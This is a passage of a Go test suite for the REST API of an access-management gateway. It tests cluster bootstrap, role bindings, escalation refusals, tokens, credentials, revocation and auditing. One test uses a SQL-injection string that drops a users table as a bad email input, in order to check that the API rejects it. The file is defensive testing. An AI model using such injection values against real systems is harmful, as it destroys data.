package api_test

import (
	"bytes"
	"context"
	"crypto"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/getkin/kin-openapi/openapi3"
	"github.com/getkin/kin-openapi/openapi3filter"
	"github.com/getkin/kin-openapi/routers"
	"github.com/getkin/kin-openapi/routers/legacy"
	"go.uber.org/goleak"

	"github.com/gatehouse-dev/gatehouse/audit"
	"github.com/gatehouse-dev/gatehouse/control"
	"github.com/gatehouse-dev/gatehouse/control/api"
	"github.com/gatehouse-dev/gatehouse/control/ca"
	"github.com/gatehouse-dev/gatehouse/control/policy"
	"github.com/gatehouse-dev/gatehouse/control/store"
	"github.com/gatehouse-dev/gatehouse/internal/pki"
)

func TestMain(m *testing.M) {
	// Recordings are asciicast v2: text, one JSON document a line.
	openapi3filter.RegisterBodyDecoder("application/x-asciicast", openapi3filter.PlainBodyDecoder)
	goleak.VerifyTestMain(m, goleak.IgnoreTopFunction("database/sql.(*DB).connectionOpener"))
}

// env is the API over a real embedded store, served on loopback.
type env struct {
	t       *testing.T
	store   *store.Store
	audit   *audit.Memory
	srv     *httptest.Server
	doc     *openapi3.T
	router  routers.Router
	org     *store.Org
	project *store.Project
	admin   string // API tokens
	viewer  string
	notify  *recorder
}

// recorder remembers whose access the API said changed.
type recorder struct {
	mu    sync.Mutex
	users []string
}

func (r *recorder) AccessChanged(_ context.Context, user string, _ []string) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.users = append(r.users, user)
	return nil
}

func (r *recorder) take() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	u := r.users
	r.users = nil
	return u
}

func newEnv(t *testing.T) *env { return newEnvWith(t, nil) }

// newEnvWith is newEnv with tweak applied to the API's configuration.
func newEnvWith(t *testing.T, tweak func(*api.Config)) *env {
	t.Helper()
	ctx := context.Background()
	cfg := store.DefaultConfig()
	cfg.DSN = filepath.Join(t.TempDir(), "gatehouse.db")
	st, err := store.Open(ctx, cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if _, err := st.Migrate(ctx); err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, store: st, audit: &audit.Memory{}}
	e.org = &store.Org{Name: "acme"}
	must(t, st.CreateOrg(ctx, e.org))
	e.project = &store.Project{OrgID: e.org.ID, Name: "web"}
	must(t, st.CreateProject(ctx, e.project))
	e.admin = e.person("admin@acme.test", "ADMIN", "")
	e.viewer = e.person("viewer@acme.test", "PROJECT_READ_ONLY", e.project.ID)

	engine, err := policy.New(st)
	must(t, err)
	acfg := api.DefaultConfig()
	e.notify = &recorder{}
	acfg.Store, acfg.Policy, acfg.Audit, acfg.Notify = st, engine, e.audit, e.notify
	acfg.GatewayURL, acfg.GatewayCA = "https://gateway.acme.test", []byte("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
	if tweak != nil {
		tweak(&acfg)
	}
	a, err := api.New(acfg)
	must(t, err)
	e.srv = httptest.NewServer(a)
	t.Cleanup(e.srv.Close)

	e.doc, err = openapi3.NewLoader().LoadFromFile("openapi.json")
	must(t, err)
	must(t, e.doc.Validate(ctx))
	e.doc.Servers = openapi3.Servers{{URL: e.srv.URL}}
	e.router, err = legacy.NewRouter(e.doc)
	must(t, err)
	return e
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// person creates a person bound to role (at the project when projectID is
// set) and returns an API token of theirs.
func (e *env) person(email, role, projectID string) string {
	ctx := context.Background()
	u := &store.User{OrgID: e.org.ID, Email: email}
	must(e.t, e.store.CreateUser(ctx, u))
	must(e.t, e.store.CreateBinding(ctx, &store.Binding{OrgID: e.org.ID, SubjectKind: store.SubjectUser, SubjectID: u.ID, Role: role, ProjectID: projectID}))
	tok, err := e.store.CreateAPIToken(ctx, &store.APIToken{UserID: u.ID, Name: "test", Expires: time.Now().Add(time.Hour)})
	must(e.t, err)
	return tok
}

type response struct {
	code int
	body []byte
	ct   string
}

func (r response) problem(t *testing.T) map[string]any {
	t.Helper()
	if r.ct != "application/problem+json" {
		t.Fatalf("error answered with %q, want application/problem+json: %s", r.ct, r.body)
	}
	var p map[string]any
	must(t, json.Unmarshal(r.body, &p))
	return p
}

// do sends a request and checks the response against the OpenAPI document:
// its status is documented for the operation and its body matches the
// schema.
func (e *env) do(method, path, token, contentType string, body []byte) response {
	e.t.Helper()
	req, err := http.NewRequest(method, e.srv.URL+path, bytes.NewReader(body))
	must(e.t, err)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := e.srv.Client().Do(req)
	must(e.t, err)
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	route, params, err := e.router.FindRoute(req)
	if err != nil {
		e.t.Fatalf("%s %s is not in the OpenAPI document: %v", method, path, err)
	}
	in := &openapi3filter.RequestValidationInput{Request: req, PathParams: params, Route: route,
		Options: &openapi3filter.Options{AuthenticationFunc: openapi3filter.NoopAuthenticationFunc, ExcludeRequestBody: true}}
	out := &openapi3filter.ResponseValidationInput{RequestValidationInput: in, Status: resp.StatusCode, Header: resp.Header,
		Body: io.NopCloser(bytes.NewReader(b)), Options: &openapi3filter.Options{IncludeResponseStatus: true}}
	if err := openapi3filter.ValidateResponse(context.Background(), out); err != nil {
		e.t.Fatalf("%s %s: response %d does not match the OpenAPI document: %v\n%s", method, path, resp.StatusCode, err, b)
	}
	// A request the server accepted must match the document too.
	if resp.StatusCode < 400 && body != nil {
		vreq := req.Clone(context.Background())
		vreq.Body = io.NopCloser(bytes.NewReader(body))
		vin := &openapi3filter.RequestValidationInput{Request: vreq, PathParams: params, Route: route,
			Options: &openapi3filter.Options{AuthenticationFunc: openapi3filter.NoopAuthenticationFunc}}
		if err := openapi3filter.ValidateRequest(context.Background(), vin); err != nil {
			e.t.Fatalf("%s %s: accepted request does not match the OpenAPI document: %v\n%s", method, path, err, body)
		}
	}
	return response{code: resp.StatusCode, body: b, ct: resp.Header.Get("Content-Type")}
}

func (e *env) post(path, token string, v any) response {
	b, _ := json.Marshal(v)
	return e.do("POST", path, token, "application/json", b)
}

func (e *env) clusterCount() int {
	cs, _, err := e.store.ListClusters(context.Background(), "", store.Page{Limit: store.MaxLimit})
	must(e.t, err)
	return len(cs)
}

func TestOpenAPIDocumentCoversEveryRoute(t *testing.T) {
	e := newEnv(t)
	var documented []string
	for path, item := range e.doc.Paths.Map() {
		for method := range item.Operations() {
			documented = append(documented, method+" "+path)
		}
	}
	served := append(api.Routes(), "GET /api/v1/openapi.json")
	slices.Sort(documented)
	slices.Sort(served)
	if !slices.Equal(documented, served) {
		t.Fatalf("document and handlers differ:\ndocumented %v\nserved     %v", documented, served)
	}
	r := e.do("GET", "/api/v1/openapi.json", "", "", nil)
	if r.code != 200 || !json.Valid(r.body) {
		t.Fatalf("openapi.json: %d", r.code)
	}
}

func TestCreateClusterReturnsAWorkingBootstrap(t *testing.T) {
	e := newEnv(t)
	r := e.post("/api/v1/clusters", e.admin, map[string]string{"name": "prod-eu", "project": "web", "description": "EU"})
	if r.code != http.StatusCreated {
		t.Fatalf("create: %d %s", r.code, r.body)
	}
	var out api.ClusterCreated
	must(t, json.Unmarshal(r.body, &out))
	if out.Cluster.Name != "prod-eu" || out.Cluster.Registered || !strings.Contains(out.Bootstrap.Manifest, out.Bootstrap.Token) ||
		!strings.Contains(out.Bootstrap.Manifest, "https://gateway.acme.test") {
		t.Fatalf("created: %+v", out.Cluster)
	}
	if name, err := e.store.Redeem(context.Background(), out.Bootstrap.Token, "uid-1"); err != nil || name != "prod-eu" {
		t.Fatalf("the returned token does not register: %q %v", name, err)
	}
	got := e.do("GET", "/api/v1/clusters/prod-eu", e.viewer, "", nil)
	var c api.Cluster
	must(t, json.Unmarshal(got.body, &c))
	if got.code != 200 || !c.Registered || c.Project != "web" {
		t.Fatalf("get: %d %s", got.code, got.body)
	}
	if r := e.post("/api/v1/clusters", e.admin, map[string]string{"name": "prod-eu", "project": "web"}); r.code != http.StatusConflict {
		t.Fatalf("duplicate: %d", r.code)
	}
	// A new bootstrap for re-registration: it works for the cluster's own
	// fingerprint only.
	r = e.do("POST", "/api/v1/clusters/prod-eu/bootstrap", e.admin, "", nil)
	var boot api.Bootstrap
	if r.code != 200 || json.Unmarshal(r.body, &boot) != nil {
		t.Fatalf("bootstrap: %d %s", r.code, r.body)
	}
	if _, err := e.store.Redeem(context.Background(), boot.Token, "uid-2"); !errors.Is(err, store.ErrFingerprintMismatch) {
		t.Fatalf("another fingerprint: %v", err)
	}
	// Re-homing is the admin's explicit act; the next registration may
	// bring a new fingerprint.
	if r := e.do("POST", "/api/v1/clusters/prod-eu/rehome", e.viewer, "", nil); r.code != http.StatusForbidden {
		t.Fatalf("viewer re-homes: %d", r.code)
	}
	r = e.do("POST", "/api/v1/clusters/prod-eu/rehome", e.admin, "", nil)
	if r.code != 200 || json.Unmarshal(r.body, &boot) != nil {
		t.Fatalf("rehome: %d %s", r.code, r.body)
	}
	if name, err := e.store.Redeem(context.Background(), boot.Token, "uid-2"); err != nil || name != "prod-eu" {
		t.Fatalf("registration after re-homing: %q %v", name, err)
	}
	if r := e.do("DELETE", "/api/v1/clusters/prod-eu", e.viewer, "", nil); r.code != http.StatusForbidden {
		t.Fatalf("viewer delete: %d", r.code)
	}
	if r := e.do("DELETE", "/api/v1/clusters/prod-eu", e.admin, "", nil); r.code != http.StatusNoContent {
		t.Fatalf("delete: %d %s", r.code, r.body)
	}
	if r := e.do("GET", "/api/v1/clusters/prod-eu", e.admin, "", nil); r.code != http.StatusNotFound {
		t.Fatalf("after delete: %d", r.code)
	}
	// Every change and refusal is audited as a system event.
	var actions []string
	for _, ev := range e.audit.Events() {
		if ev.Kind == audit.KindSystem {
			actions = append(actions, fmt.Sprintf("%s %s %d", ev.Action, ev.Object, ev.Status))
		}
	}
	want := []string{"cluster.create cluster/prod-eu 201", "cluster.bootstrap cluster/prod-eu 200", "cluster.rehome cluster/prod-eu 403", "cluster.rehome cluster/prod-eu 200",
		"cluster.delete cluster/prod-eu 403", "cluster.delete cluster/prod-eu 204"}
	if !slices.Equal(actions, want) {
		t.Fatalf("audit: %v\nwant %v", actions, want)
	}
}

func TestRefusalsLeaveTheStoreUnchanged(t *testing.T) {
	e := newEnv(t)
	big := `{"name":"x","project":"web","description":"` + strings.Repeat("a", 1<<20) + `"}`
	for _, tc := range []struct {
		name, token, ct, body string
		code                  int
		field                 string
	}{
		{"no credential", "", "application/json", `{"name":"a","project":"web"}`, 401, ""},
		{"bad token", "gha1.aaaaaaaaaaaaaaaa.bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", "application/json", `{"name":"a","project":"web"}`, 401, ""},
		{"no permission", e.viewer, "application/json", `{"name":"a","project":"web"}`, 403, ""},
		{"unknown field", e.admin, "application/json", `{"name":"a","project":"web","admin":true}`, 400, "admin"},
		{"bad name", e.admin, "application/json", `{"name":"Not_A_Name","project":"web"}`, 400, "name"},
		{"wrong type", e.admin, "application/json", `{"name":7,"project":"web"}`, 400, "name"},
		{"oversized", e.admin, "application/json", big, 400, ""},
		{"no project", e.admin, "application/json", `{"name":"a"}`, 400, "project"},
		{"unknown project", e.admin, "application/json", `{"name":"a","project":"nope"}`, 400, "project"},
		{"server fields", e.admin, "application/json", `{"name":"a","project":"web","version":3}`, 400, "version"},
		{"not json", e.admin, "application/json", `{"name":`, 400, ""},
		{"trailing data", e.admin, "application/json", `{"name":"a","project":"web"}{}`, 400, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := e.do("POST", "/api/v1/clusters", tc.token, tc.ct, []byte(tc.body))
			if r.code != tc.code {
				t.Fatalf("got %d, want %d: %s", r.code, tc.code, r.body)
			}
			p := r.problem(t)
			if tc.field != "" && p["field"] != tc.field {
				t.Fatalf("field %v, want %q: %s", p["field"], tc.field, r.body)
			}
			if n := e.clusterCount(); n != 0 {
				t.Fatalf("store changed: %d clusters", n)
			}
		})
	}
	// Wrong content type.
	r := e.do("POST", "/api/v1/projects", e.admin, "text/plain", []byte(`{"name":"a"}`))
	if r.code != http.StatusUnsupportedMediaType {
		t.Fatalf("content type: %d", r.code)
	}
}

func TestProjectsPaginationAndVisibility(t *testing.T) {
	e := newEnv(t)
	for _, n := range []string{"alpha", "beta", "gamma"} {
		if r := e.post("/api/v1/projects", e.admin, map[string]string{"name": n}); r.code != http.StatusCreated {
			t.Fatalf("create %s: %d %s", n, r.code, r.body)
		}
	}
	var names []string
	next := ""
	for range 5 {
		r := e.do("GET", "/api/v1/projects?limit=2&continue="+next, e.admin, "", nil)
		var l api.List[api.Project]
		must(t, json.Unmarshal(r.body, &l))
		for _, p := range l.Items {
			names = append(names, p.Name)
		}
		if next = l.Continue; next == "" {
			break
		}
	}
	if !slices.Equal(names, []string{"alpha", "beta", "gamma", "web"}) {
		t.Fatalf("paged: %v", names)
	}
	// The viewer sees only their project; others answer 404, not 403.
	r := e.do("GET", "/api/v1/projects", e.viewer, "", nil)
	var l api.List[api.Project]
	must(t, json.Unmarshal(r.body, &l))
	if len(l.Items) != 1 || l.Items[0].Name != "web" {
		t.Fatalf("viewer sees %+v", l.Items)
	}
	if r := e.do("GET", "/api/v1/projects/alpha", e.viewer, "", nil); r.code != http.StatusNotFound {
		t.Fatalf("hidden project: %d", r.code)
	}
	if r := e.do("GET", "/api/v1/projects?limit=0", e.admin, "", nil); r.code != 400 || r.problem(t)["field"] != "limit" {
		t.Fatalf("bad limit: %d %s", r.code, r.body)
	}
	if r := e.do("GET", "/api/v1/projects?continue=%25%25", e.admin, "", nil); r.code != 400 || r.problem(t)["field"] != "continue" {
		t.Fatalf("bad continue: %d %s", r.code, r.body)
	}
	if r := e.do("GET", "/api/v1/whoami", e.viewer, "", nil); r.code != 200 || !strings.Contains(string(r.body), "viewer@acme.test") {
		t.Fatalf("whoami: %d %s", r.code, r.body)
	}
}

func (e *env) bindingCount() int {
	bs, _, err := e.store.ListBindings(context.Background(), store.BindingFilter{}, store.Page{Limit: store.MaxLimit})
	must(e.t, err)
	return len(bs)
}

func TestRoleBindingsThroughTheAPI(t *testing.T) {
	e := newEnv(t)
	other := &store.Project{OrgID: e.org.ID, Name: "search"}
	must(t, e.store.CreateProject(context.Background(), other))
	padmin := e.person("padmin@acme.test", "PROJECT_ADMIN", e.project.ID)
	if r := e.post("/api/v1/users", e.admin, map[string]string{"email": "nina@acme.test"}); r.code != http.StatusCreated {
		t.Fatalf("create user: %d %s", r.code, r.body)
	}
	var nina api.User
	json.Unmarshal(e.post("/api/v1/users", e.admin, map[string]string{"email": "nina2@acme.test"}).body, &nina)
	e.notify.take()

	before := e.bindingCount()
	grant := func(token string, b map[string]any) response { return e.post("/api/v1/rolebindings", token, b) }
	user := map[string]string{"kind": "user", "name": "nina@acme.test"}
	// A project admin grants NAMESPACE_ADMIN in their project...
	r := grant(padmin, map[string]any{"subject": user, "role": "NAMESPACE_ADMIN", "project": "web", "namespace": "team"})
	if r.code != http.StatusCreated {
		t.Fatalf("project admin grants NAMESPACE_ADMIN: %d %s", r.code, r.body)
	}
	var b api.RoleBinding
	must(t, json.Unmarshal(r.body, &b))
	if b.Subject.Name != "nina@acme.test" || b.Project != "web" {
		t.Fatalf("binding: %+v", b)
	}
	if got := e.notify.take(); len(got) != 1 {
		t.Fatalf("gateway told about %v, want nina", got)
	}
	// ...but not ADMIN, nor anything in another project.
	for _, tc := range []map[string]any{
		{"subject": user, "role": "ADMIN"},
		{"subject": user, "role": "NAMESPACE_ADMIN", "project": "search", "namespace": "team"},
		{"subject": user, "role": "PROJECT_ADMIN", "project": "search"},
	} {
		if r := grant(padmin, tc); r.code != http.StatusForbidden {
			t.Fatalf("escalation %v: %d %s", tc, r.code, r.body)
		}
	}
	// A viewer grants nothing.
	if r := grant(e.viewer, map[string]any{"subject": user, "role": "NAMESPACE_READ_ONLY", "project": "web", "namespace": "team"}); r.code != http.StatusForbidden {
		t.Fatalf("viewer grants: %d", r.code)
	}
	// Bad input names the field.
	for _, tc := range []struct {
		body  map[string]any
		field string
	}{
		{map[string]any{"subject": user, "role": "ROOT"}, "role"},
		{map[string]any{"subject": map[string]string{"kind": "robot", "name": "x"}, "role": "ADMIN"}, "subject.kind"},
		{map[string]any{"subject": map[string]string{"kind": "user", "name": "ghost@acme.test"}, "role": "ADMIN"}, "subject.name"},
		{map[string]any{"subject": user, "role": "NAMESPACE_ADMIN", "namespace": "team"}, "namespace"},
		{map[string]any{"subject": user, "role": "ADMIN", "project": "web"}, "role"},
		{map[string]any{"subject": user, "role": "NAMESPACE_ADMIN", "project": "web", "namespace": "Team_X"}, "namespace"},
		{map[string]any{"subject": user, "role": "ADMIN", "expires": "2001-01-01T00:00:00Z"}, "expires"},
	} {
		r := grant(e.admin, tc.body)
		if r.code != http.StatusBadRequest || r.problem(t)["field"] != tc.field {
			t.Fatalf("%v: %d %s, want 400 naming %s", tc.body, r.code, r.body, tc.field)
		}
	}
	if n := e.bindingCount(); n != before+1 {
		t.Fatalf("refusals changed the store: %d bindings, want %d", n, before+1)
	}
	// The viewer sees bindings of their project; delete tells the gateway.
	var l api.List[api.RoleBinding]
	json.Unmarshal(e.do("GET", "/api/v1/rolebindings", e.viewer, "", nil).body, &l)
	if !slices.ContainsFunc(l.Items, func(x api.RoleBinding) bool { return x.ID == b.ID }) {
		t.Fatalf("viewer does not see the binding: %+v", l.Items)
	}
	if r := e.do("DELETE", "/api/v1/rolebindings/"+b.ID, e.viewer, "", nil); r.code != http.StatusForbidden {
		t.Fatalf("viewer deletes: %d", r.code)
	}
	if r := e.do("DELETE", "/api/v1/rolebindings/"+b.ID, padmin, "", nil); r.code != http.StatusNoContent {
		t.Fatalf("delete: %d %s", r.code, r.body)
	}
	if got := e.notify.take(); len(got) != 1 {
		t.Fatalf("delete told the gateway about %v", got)
	}
	if r := e.do("GET", "/api/v1/roles", e.viewer, "", nil); r.code != 200 || !strings.Contains(string(r.body), "NAMESPACE_READ_ONLY") {
		t.Fatalf("roles: %d", r.code)
	}
}

func TestUsersGroupsTokensAndConcurrency(t *testing.T) {
	e := newEnv(t)
	if r := e.post("/api/v1/users", e.admin, map[string]string{"email": "not-an-email"}); r.code != 400 || r.problem(t)["field"] != "email" {
		t.Fatalf("bad email: %d %s", r.code, r.body)
	}
	for _, bad := range []string{"x'); DROP TABLE users;--@x.test", "Ana <ana@acme.test>", strings.Repeat("a", 250) + "@acme.test"} {
		if r := e.post("/api/v1/users", e.admin, map[string]string{"email": bad}); r.code != 400 || r.problem(t)["field"] != "email" {
			t.Fatalf("email %q: %d %s", bad, r.code, r.body)
		}
	}
	if r := e.post("/api/v1/users", e.admin, map[string]string{"email": "viewer@acme.test"}); r.code != http.StatusConflict {
		t.Fatalf("duplicate: %d", r.code)
	}
	if r := e.post("/api/v1/users", e.viewer, map[string]string{"email": "x@acme.test"}); r.code != http.StatusForbidden {
		t.Fatalf("viewer creates a user: %d", r.code)
	}
	r := e.post("/api/v1/groups", e.admin, map[string]any{"name": "sre", "idpGroups": []string{"github:acme/sre"}, "members": []string{"viewer@acme.test"}})
	if r.code != http.StatusCreated {
		t.Fatalf("group: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/groups", e.admin, map[string]any{"name": "x", "members": []string{"ghost@acme.test"}}); r.code != 400 || r.problem(t)["field"] != "members" {
		t.Fatalf("bad member: %d %s", r.code, r.body)
	}
	var gl api.List[api.Group]
	json.Unmarshal(e.do("GET", "/api/v1/groups", e.admin, "", nil).body, &gl)
	if len(gl.Items) != 1 || len(gl.Items[0].Members) != 1 {
		t.Fatalf("groups: %+v", gl.Items)
	}
	// API tokens are minted from sessions only.
	if r := e.post("/api/v1/tokens", e.admin, map[string]any{"name": "ci", "ttl": "24h"}); r.code != http.StatusForbidden {
		t.Fatalf("token from a token: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/tokens", e.admin, map[string]any{"name": "ci", "ttl": "forever"}); r.code != 400 || r.problem(t)["field"] != "ttl" {
		t.Fatalf("bad ttl: %d %s", r.code, r.body)
	}
	var tl api.List[api.Token]
	json.Unmarshal(e.do("GET", "/api/v1/tokens", e.admin, "", nil).body, &tl)
	if len(tl.Items) != 1 || tl.Items[0].Secret != "" || tl.Items[0].LastUsed.IsZero() {
		t.Fatalf("tokens: %+v", tl.Items)
	}
	// Optimistic concurrency: a stale version is refused with 409.
	var p api.Project
	json.Unmarshal(e.do("GET", "/api/v1/projects/web", e.admin, "", nil).body, &p)
	put := func(version int64, desc string) response {
		b, _ := json.Marshal(api.Project{Name: "web", Description: desc, Version: version})
		return e.do("PUT", "/api/v1/projects/web", e.admin, "application/json", b)
	}
	if r := put(p.Version, "first"); r.code != 200 {
		t.Fatalf("update: %d %s", r.code, r.body)
	}
	if r := put(p.Version, "second"); r.code != http.StatusConflict || r.problem(t)["field"] != "version" {
		t.Fatalf("stale update: %d %s", r.code, r.body)
	}
	json.Unmarshal(e.do("GET", "/api/v1/projects/web", e.admin, "", nil).body, &p)
	if p.Description != "first" {
		t.Fatalf("stale update changed the project: %+v", p)
	}
	// Deleting a person tells the gateway.
	e.notify.take()
	viewer, _ := e.store.GetUser(context.Background(), "viewer@acme.test")
	if r := e.do("DELETE", "/api/v1/users/"+viewer.ID, e.admin, "", nil); r.code != http.StatusNoContent {
		t.Fatalf("delete user: %d %s", r.code, r.body)
	}
	if got := e.notify.take(); !slices.Equal(got, []string{viewer.ID}) {
		t.Fatalf("notified %v", got)
	}
}

func TestCustomRolesThroughTheAPI(t *testing.T) {
	e := newEnv(t)
	padmin := e.person("padmin@acme.test", "PROJECT_ADMIN", e.project.ID)
	role := map[string]any{"name": "restart-web", "scope": "namespace", "rules": []map[string]any{
		{"apiGroups": []string{"apps"}, "resources": []string{"deployments"}, "resourceNames": []string{"web"}, "verbs": []string{"get", "patch"}}}}
	if r := e.post("/api/v1/roles", padmin, role); r.code != http.StatusForbidden {
		t.Fatalf("project admin creates a role: %d", r.code)
	}
	if r := e.post("/api/v1/roles", e.admin, role); r.code != http.StatusCreated {
		t.Fatalf("create role: %d %s", r.code, r.body)
	}
	for _, tc := range []struct {
		body  map[string]any
		field string
	}{
		{map[string]any{"name": "wild", "scope": "namespace", "rules": []map[string]any{{"resources": []string{"*"}, "verbs": []string{"get"}}}}, "rules"},
		{map[string]any{"name": "ADMIN", "scope": "namespace", "rules": role["rules"]}, "name"},
		{map[string]any{"name": "org-wide", "scope": "org", "rules": role["rules"]}, "scope"},
		{map[string]any{"name": "Bad_Name", "scope": "namespace", "rules": role["rules"]}, "name"},
		{map[string]any{"name": "empty", "scope": "namespace"}, "rules"},
	} {
		if r := e.post("/api/v1/roles", e.admin, tc.body); r.code != 400 || r.problem(t)["field"] != tc.field {
			t.Fatalf("%v: %d %s, want 400 naming %s", tc.body, r.code, r.body, tc.field)
		}
	}
	var l api.List[api.RoleInfo]
	json.Unmarshal(e.do("GET", "/api/v1/roles", e.viewer, "", nil).body, &l)
	if !slices.ContainsFunc(l.Items, func(r api.RoleInfo) bool { return r.Name == "restart-web" && !r.Builtin && len(r.Rules) == 1 }) {
		t.Fatalf("roles: %+v", l.Items)
	}
	user := map[string]string{"kind": "user", "name": "viewer@acme.test"}
	if r := e.post("/api/v1/rolebindings", padmin, map[string]any{"subject": user, "role": "restart-web", "project": "web", "namespace": "team"}); r.code != http.StatusCreated {
		t.Fatalf("project admin binds the custom role: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/rolebindings", e.admin, map[string]any{"subject": user, "role": "restart-web", "project": "web"}); r.code != 400 || r.problem(t)["field"] != "role" {
		t.Fatalf("custom role at the wrong scope: %d %s", r.code, r.body)
	}
	e.notify.take()
	if r := e.do("DELETE", "/api/v1/roles/restart-web", e.admin, "", nil); r.code != http.StatusNoContent {
		t.Fatalf("delete role: %d %s", r.code, r.body)
	}
	if got := e.notify.take(); len(got) != 1 {
		t.Fatalf("deleting the role told the gateway about %v", got)
	}
}

// TestInvitationRefusals: what the invitation endpoint refuses before it
// reaches Kratos (the real flow is tested end to end in devsetup).
func TestInvitationRefusals(t *testing.T) {
	e := newEnv(t)
	for _, c := range []struct {
		token, user string
		body        any
		code        int
		field       string
	}{
		{token: e.admin, user: "viewer@acme.test", body: map[string]string{"ttl": "forever"}, code: 400, field: "ttl"},
		{token: e.admin, user: "viewer@acme.test", body: map[string]string{"ttl": "720h"}, code: 400, field: "ttl"},
		{token: e.admin, user: "viewer@acme.test", body: map[string]string{"expires": "1h"}, code: 400},
		{token: e.viewer, user: "admin@acme.test", code: http.StatusForbidden},
		// This API has no identity service, so no local accounts.
		{token: e.admin, user: "viewer@acme.test", code: 400},
		{token: "", user: "viewer@acme.test", code: http.StatusUnauthorized},
	} {
		r := e.post("/api/v1/users/"+c.user+"/invitation", c.token, c.body)
		if r.code != c.code || (c.field != "" && r.problem(t)["field"] != c.field) {
			t.Errorf("%+v: %d %s", c, r.code, r.body)
		}
	}
	n := 0
	for _, ev := range e.audit.Events() {
		if ev.Action == "user.invite" && ev.Status == http.StatusForbidden {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d refused invitations audited, want 1 (the forbidden one)", n)
	}
}

// A token limited to some of its owner's roles mints no certificate (a
// certificate would carry the person's full Kubernetes access), and a
// revoked person's API tokens stop working with everything else they hold
// (issue 9, defects 2 and 3).
func TestTokensAndCredentials(t *testing.T) {
	auth, err := ca.New(ca.DefaultConfig())
	must(t, err)
	e := newEnvWith(t, func(c *api.Config) { c.Issuer = auth })
	ctx := context.Background()
	admin, err := e.store.GetUser(ctx, "admin@acme.test")
	must(t, err)
	limited, err := e.store.CreateAPIToken(ctx, &store.APIToken{UserID: admin.ID, Name: "read-only", Roles: []string{"ADMIN_READ_ONLY"}, Expires: time.Now().Add(time.Hour)})
	must(t, err)
	key, _, err := pki.NewKey()
	must(t, err)
	csr, err := pki.CSR(key)
	must(t, err)
	req := api.CredentialRequest{CSR: string(csr)}

	if r := e.post("/api/v1/credentials", limited, req); r.code != http.StatusForbidden || !strings.Contains(string(r.body), "limited") {
		t.Fatalf("limited token minted a credential: %d %s", r.code, r.body)
	}
	// The token still reads what its role lets it read.
	if r := e.do("GET", "/api/v1/projects", limited, "", nil); r.code != http.StatusOK {
		t.Fatalf("limited token reads projects: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/credentials", e.admin, req); r.code != http.StatusOK {
		t.Fatalf("unlimited token: %d %s", r.code, r.body)
	}

	// Revoke the viewer: their token mints nothing any more.
	if r := e.post("/api/v1/credentials", e.viewer, req); r.code != http.StatusOK {
		t.Fatalf("viewer's credential before the revocation: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/revocations", e.admin, api.RevocationRequest{User: "viewer@acme.test"}); r.code != http.StatusNoContent {
		t.Fatalf("revoke: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/credentials", e.viewer, req); r.code != http.StatusUnauthorized {
		t.Fatalf("revoked person's token: %d %s", r.code, r.body)
	}
	var refused bool
	for _, ev := range e.audit.Events() {
		refused = refused || (ev.Action == "credential.issue" && ev.Status == http.StatusForbidden && ev.User == admin.ID)
	}
	if !refused {
		t.Fatal("the limited token's refusal was not audited")
	}
}

// notLeader is a CA that does not sign here (a follower, an election).
type notLeader struct{}

func (notLeader) IssueUser(context.Context, string, []string, crypto.PublicKey, time.Duration) ([]byte, error) {
	return nil, ca.ErrNotLeader
}

// A credential asked for while the CA cannot sign is a retryable 503 with
// Retry-After, not an internal error.
func TestCredentialWhileTheCACannotSign(t *testing.T) {
	e := newEnvWith(t, func(c *api.Config) { c.Issuer = notLeader{} })
	key, _, err := pki.NewKey()
	must(t, err)
	csr, err := pki.CSR(key)
	must(t, err)
	b, _ := json.Marshal(api.CredentialRequest{CSR: string(csr)})
	req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/api/v1/credentials", bytes.NewReader(b))
	req.Header.Set("Authorization", "Bearer "+e.admin)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	must(t, err)
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable || resp.Header.Get("Retry-After") == "" {
		t.Fatalf("status %d, Retry-After %q", resp.StatusCode, resp.Header.Get("Retry-After"))
	}
}

// Owns tells the API's own paths from Kubernetes' (which the gateway
// answers with a Status naming the fix).
func TestOwns(t *testing.T) {
	e := newEnv(t)
	a, err := api.New(api.Config{Store: e.store, Policy: mustPolicy(t, e.store), Audit: e.audit, GatewayURL: "https://g", GatewayCA: []byte("x"), AgentImage: "i", BootstrapTTL: time.Hour})
	must(t, err)
	for path, want := range map[string]bool{
		"/api/v1/whoami": true, "/api/v1/clusters/prod": true, "/api/v1/openapi.json": true,
		"/api/v1/namespaces": false, "/api/v1/pods": false, "/api/v1/namespaces/default/pods/x": false,
	} {
		if got := a.Owns(httptest.NewRequest(http.MethodGet, path, nil)); got != want {
			t.Errorf("Owns(%s) = %v", path, got)
		}
	}
}

func mustPolicy(t *testing.T, st *store.Store) *policy.Engine {
	t.Helper()
	p, err := policy.New(st)
	must(t, err)
	return p
}

// Audit search through the API (issue 12): what each role sees (golden:
// the organization's admin everything, a project's read-only member that
// project's clusters, someone without either nothing), filters,
// pagination to the end with nothing twice, and CSV.
func TestAuditSearchByRole(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	other := &store.Project{OrgID: e.org.ID, Name: "data"}
	must(t, e.store.CreateProject(ctx, other))
	ns := e.person("ns@acme.test", "NAMESPACE_READ_ONLY", e.project.ID)
